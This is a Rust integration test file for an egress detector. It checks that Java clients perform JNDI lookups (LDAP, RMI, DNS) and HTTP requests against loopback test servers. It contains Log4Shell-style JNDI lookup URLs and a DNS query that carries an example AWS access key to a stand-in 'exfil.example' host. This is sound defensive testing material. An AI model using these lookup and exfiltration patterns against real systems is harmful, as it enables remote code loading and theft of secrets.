//! The egress scenarios' clients and servers on their own, without the detector (no root
//! needed): every `egress_*` scenario relies on these JVMs really performing their JNDI lookups
//! and connects against the loopback servers, and on the servers counting what arrives.
//!
//! Proves: `JndiLookup` sends an LDAP bind (`ldap://`, IPv4 and IPv6, standard and
//! non-standard port), the JRMP handshake (`rmi://`) and a DNS query for the URL's name
//! (`dns://`), each bounded by its 2 s timeouts; `HttpGet` and `Sequence` reach the HTTP server;
//! the Python client sends the captured bind; a refused connect is reported as `connect-error`
//! without `Operation not permitted`, which only the detector's EPERM produces.

use std::{
    sync::{Mutex, MutexGuard},
    time::Duration,
};

use integration_tests::{
    python_ldap_bind, spawn, JavaProgram, ProgramRun, TcpServer, UdpReply, UdpServer,
    LDAP_BIND_REQUEST, LOOPBACK_V4, LOOPBACK_V6, PROGRAM_TIMEOUT, SERVER_TIMEOUT,
};

/// The tests here bind the same well-known ports: one at a time, even without
/// `--test-threads=1`.
static PORTS: Mutex<()> = Mutex::new(());

fn ports() -> MutexGuard<'static, ()> {
    PORTS
        .lock()
        .unwrap_or_else(|poisoned| poisoned.into_inner())
}

/// A lookup against a silent server ends with its 2 s read or handshake timeout, not the
/// JDK's defaults (minutes for RMI).
const LOOKUP_BOUND: Duration = Duration::from_secs(10);

fn lookup(url: &str) -> ProgramRun {
    let run = JavaProgram::new("JndiLookup").arg(url).run();
    run.assert_success();
    assert!(
        run.value("lookup-error").is_some() && run.value("lookup-ok").is_none(),
        "a lookup against a test server cannot succeed:\n{run}"
    );
    run.assert_not_denied("lookup");
    assert!(
        run.elapsed < LOOKUP_BOUND,
        "the lookup took too long:\n{run}"
    );
    run
}

/// The server saw exactly one connection whose bytes start with `prefix`.
fn assert_one_connection(server: &TcpServer, prefix: &[u8], run: &ProgramRun) {
    let (tally, done) = server.wait_for(|t| t.bytes >= prefix.len() as u64, SERVER_TIMEOUT);
    assert!(done, "{server:?} did not receive {prefix:02x?}:\n{run}");
    assert_eq!(tally.accepted, 1, "{server:?}:\n{run}");
    assert!(
        server.received().starts_with(prefix),
        "{server:?} did not receive {prefix:02x?} first:\n{run}"
    );
}

#[test]
fn ldap_lookup_sends_a_bind() {
    let _ports = ports();
    let server = TcpServer::silent(LOOPBACK_V4, 1389);
    let run = lookup("ldap://127.0.0.1:1389/x");
    assert_one_connection(&server, &LDAP_BIND_REQUEST, &run);
}

#[test]
fn ldap_lookup_on_a_non_standard_port_sends_a_bind() {
    let _ports = ports();
    let server = TcpServer::silent(LOOPBACK_V4, 10389);
    let run = lookup("ldap://127.0.0.1:10389/x");
    assert_one_connection(&server, &LDAP_BIND_REQUEST, &run);
}

#[test]
fn ldap_lookup_over_ipv6_sends_a_bind() {
    let _ports = ports();
    let server = TcpServer::silent(LOOPBACK_V6, 1389);
    let run = lookup("ldap://[::1]:1389/x");
    assert_one_connection(&server, &LDAP_BIND_REQUEST, &run);
}

#[test]
fn rmi_lookup_sends_the_jrmp_handshake() {
    let _ports = ports();
    let server = TcpServer::silent(LOOPBACK_V4, 1099);
    let run = lookup("rmi://127.0.0.1:1099/x");
    assert_one_connection(&server, b"JRMI", &run);
}

#[test]
fn dns_lookup_sends_one_query_for_the_name() {
    let _ports = ports();
    let server = UdpServer::start(LOOPBACK_V4, 5353, UdpReply::DnsNxDomain);
    for name in ["pwned.example.com", "AKIAIOSFODNN7EXAMPLE.exfil.example"] {
        let run = lookup(&format!("dns://127.0.0.1:5353/{name}"));
        assert!(
            run.expect_value("lookup-error")
                .starts_with("javax.naming.NameNotFoundException"),
            "the NXDOMAIN answer did not end the lookup:\n{run}"
        );
        assert!(
            server.dns_names().iter().any(|n| n == name),
            "{server:?} got no query for {name}:\n{run}"
        );
    }
    assert_eq!(server.datagrams(), 2, "{server:?}");
}

#[test]
fn http_get_reaches_the_http_server() {
    let _ports = ports();
    let server = TcpServer::http(LOOPBACK_V4, 18080);
    let run = JavaProgram::new("HttpGet")
        .arg("http://127.0.0.1:18080/")
        .run();
    run.assert_success();
    assert!(run.value("connect-ok").is_some(), "{run}");
    assert_eq!(run.value("http-status"), Some("HTTP/1.0 200 OK"), "{run}");
    assert_one_connection(&server, b"GET / HTTP/1.0\r\n\r\n", &run);
}

#[test]
fn sequence_does_the_lookup_then_the_http_get() {
    let _ports = ports();
    let ldap = TcpServer::silent(LOOPBACK_V4, 1389);
    let http = TcpServer::http(LOOPBACK_V4, 18080);
    let run = JavaProgram::new("Sequence")
        .arg("ldap://127.0.0.1:1389/x")
        .arg("http://127.0.0.1:18080/")
        .run();
    run.assert_success();
    run.assert_not_denied("lookup");
    assert!(run.value("lookup-error").is_some(), "{run}");
    assert_eq!(run.value("http-status"), Some("HTTP/1.0 200 OK"), "{run}");
    assert_one_connection(&ldap, &LDAP_BIND_REQUEST, &run);
    assert_one_connection(&http, b"GET ", &run);
}

#[test]
fn python_client_sends_the_captured_bind() {
    let _ports = ports();
    let server = TcpServer::silent(LOOPBACK_V4, 1389);
    let run = spawn(python_ldap_bind(server.addr())).wait(PROGRAM_TIMEOUT);
    run.assert_success();
    assert_one_connection(&server, &LDAP_BIND_REQUEST, &run);
    assert_eq!(server.bytes(), LDAP_BIND_REQUEST.len() as u64, "{server:?}");
}

#[test]
fn refused_connect_is_an_error_but_not_a_denial() {
    let _ports = ports();
    // Bind then drop: the port was free a moment ago and nothing listens on it now.
    let port = TcpServer::silent(LOOPBACK_V4, 0).addr().port();
    let run = JavaProgram::new("HttpGet")
        .arg(format!("http://127.0.0.1:{port}/"))
        .run();
    run.assert_success();
    assert!(
        run.expect_value("connect-error")
            .contains("java.net.ConnectException"),
        "{run}"
    );
    run.assert_not_denied("connect");
}
